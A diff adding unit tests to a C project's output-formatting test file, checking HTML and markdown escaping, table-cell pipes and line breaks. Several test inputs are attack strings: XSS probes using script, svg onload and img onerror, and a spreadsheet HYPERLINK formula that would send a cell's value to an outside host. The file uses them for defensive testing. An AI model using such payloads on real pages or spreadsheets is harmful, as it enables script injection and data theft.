@@ -1,12 +1,16 @@
 /*
  * test_format.c - the escaping functions of the output layer
  * (src/render/format.c): a CSV text cell (csv_field, csv_text) and its
- * switch csv_set_raw_text, against a number cell (csv_number).
+ * switch csv_set_raw_text, against a number cell (csv_number); markdown text
+ * (md_text, md_printf); and a line break of a note in text
+ * (print_para, print_lines, a table's last column).
  *
  * The expected cells are written by hand from the rule they follow: OWASP's
  * advice against CSV injection (a leading ' before a cell that starts with
  * =, +, -, @, a tab or a carriage return) and RFC 4180's quoting (a cell
- * with a comma, a quote or a line break in quotes, its quotes doubled).
+ * with a comma, a quote or a line break in quotes, its quotes doubled); the
+ * HTML character references of <, > and & (&lt;, &gt;, &amp;), GitHub's
+ * escaped pipe in a table cell (\|) and <br> for a line break.
  */
 #define _POSIX_C_SOURCE 200809L
 #include "testutil.h"
@@ -143,6 +147,107 @@ static void test_csv_row(void **state)
 	free(got);
 }
 
+/* ---------------------------------------------------------------- markdown */
+
+static void check_md(const char *s, const char *want)
+{
+	char *got = NULL;
+
+	CAPTURE(got, md_text(fp, s));
+	if (strcmp(got, want)) {
+		print_error("md_text(\"%s\") = [%s], expected [%s]\n", s, got, want);
+		fail();
+	}
+	free(got);
+}
+
+static void test_md_text(void **state)
+{
+	(void)state;
+	check_md("", "");
+	check_md("Licences", "Licences");
+	check_md("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;");
+	check_md("<svg onload=x>", "&lt;svg onload=x&gt;");
+	check_md("<img src=x onerror=y>", "&lt;img src=x onerror=y&gt;");
+	check_md("Tom & Jerry", "Tom &amp; Jerry");
+	check_md("&lt;b&gt;", "&amp;lt;b&amp;gt;");
+	check_md("a|b", "a\\|b");
+	check_md("first\nsecond", "first<br>second");
+	check_md("first\r\nsecond", "first<br>second");
+	check_md("first\rsecond", "first<br>second");
+	check_md("one\n\ntwo", "one<br><br>two");
+	check_md("=HYPERLINK(\"http://e/\"&A1)", "=HYPERLINK(\"http://e/\"&amp;A1)");
+	check_md("**bold** _it_ `code`", "**bold** _it_ `code`");
+	check_md("\\n shown as typed", "\\n shown as typed");
+	check_md(NULL, "");
+}
+
+static void test_md_printf(void **state)
+{
+	char *got = NULL;
+
+	(void)state;
+	CAPTURE(got, md_printf(fp, "Baseline: %s (%d)", "<i>&co", 7));
+	assert_string_equal(got, "Baseline: &lt;i&gt;&amp;co (7)");
+	free(got);
+}
+
+/* A table cell: its line break a <br>, its pipe escaped, so that the row stays one row. */
+static void test_md_table_cell(void **state)
+{
+	text_table t;
+	char *got = NULL;
+
+	(void)state;
+	assert_int_equal(table_init(&t, 2), 0);
+	assert_int_equal(table_add(&t, ROW_NORMAL, (const char *[]){ "Line", "Note" }), 0);
+	assert_int_equal(table_add(&t, ROW_NORMAL, (const char *[]){ "<b>", "one\ntwo | three" }), 0);
+	CAPTURE(got, table_print_markdown(&t, fp));
+	assert_string_equal(got, "| Line | Note |\n| --- | --- |\n| &lt;b&gt; | one<br>two \\| three |\n");
+	free(got);
+	table_free(&t);
+}
+
+/* ------------------------------------------------------------- text notes */
+
+static void test_text_para_breaks(void **state)
+{
+	char *got = NULL;
+
+	(void)state;
+	CAPTURE(got, print_para(fp, "    ", "note: first\n-2+3 second\r\nthird"));
+	assert_string_equal(got, "    note: first\n    -2+3 second\n    third\n");
+	free(got);
+	CAPTURE(got, print_para(fp, "  ", "ends with a break\n"));
+	assert_string_equal(got, "  ends with a break\n");
+	free(got);
+	CAPTURE(got, print_lines(fp, 7, "first\nsecond\n\nfourth"));
+	assert_string_equal(got, "first\n       second\n\n       fourth");
+	free(got);
+}
+
+/* A note in a table's last column: its further lines start under its first. */
+static void test_text_table_note(void **state)
+{
+	text_table t;
+	char *got = NULL;
+
+	(void)state;
+	assert_int_equal(table_init(&t, 3), 0);
+	assert_int_equal(table_add(&t, ROW_NORMAL, (const char *[]){ "Input", "Value", "Note" }), 0);
+	assert_int_equal(table_add(&t, ROW_NORMAL, (const char *[]){ "seats", "100",
+		"Seats bought:\n=the pilot's 40" }), 0);
+	assert_int_equal(table_add(&t, ROW_NOTE, (const char *[]){ "note: a\nb", NULL, NULL }), 0);
+	CAPTURE(got, table_print_text(&t, fp, "  "));
+	assert_string_equal(got, "  Input  Value  Note\n"
+			    "  seats  100    Seats bought:\n"
+			    "                =the pilot's 40\n"
+			    "      note: a\n"
+			    "      b\n");
+	free(got);
+	table_free(&t);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -152,6 +257,11 @@ int main(void)
 		cmocka_unit_test(test_csv_number_cells),
 		cmocka_unit_test(test_csv_raw_text),
 		cmocka_unit_test(test_csv_row),
+		cmocka_unit_test(test_md_text),
+		cmocka_unit_test(test_md_printf),
+		cmocka_unit_test(test_md_table_cell),
+		cmocka_unit_test(test_text_para_breaks),
+		cmocka_unit_test(test_text_table_note),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
